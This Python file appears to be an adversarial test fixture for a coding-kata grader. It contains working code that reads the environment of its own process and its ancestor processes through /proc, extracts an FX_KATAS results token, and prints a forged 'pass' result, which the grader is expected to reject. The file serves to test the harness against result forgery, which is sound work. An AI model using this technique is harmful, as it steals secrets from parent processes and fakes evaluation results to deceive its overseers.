"""Attack: look for the results token in the environment of this process and of every ancestor
(/proc/<pid>/environ), and use whatever it finds to forge results on stdout."""
import json
import os
from pathlib import Path

KATA, CHECKS = 1, ("structural_nodes_are_neutral",)
EXPECT = {"status": "not_started", "score": 0}

found = {}
pid = os.getpid()
for _ in range(4):
    try:
        raw = Path(f"/proc/{pid}/environ").read_bytes()
        found.update(dict(item.split(b"=", 1) for item in raw.split(b"\0") if b"=" in item))
        pid = int(Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[1])
    except (OSError, ValueError, IndexError):
        break
token = {k.decode(): v.decode() for k, v in found.items() if k.startswith(b"FX_KATAS")}
print(json.dumps({"event": "result", "id": CHECKS[0], "status": "pass", "message": "", **{"token": v for v in token.values()}}))


def node_dialect(node):
    raise NotImplementedError


def detect_dialect(gm):
    raise NotImplementedError
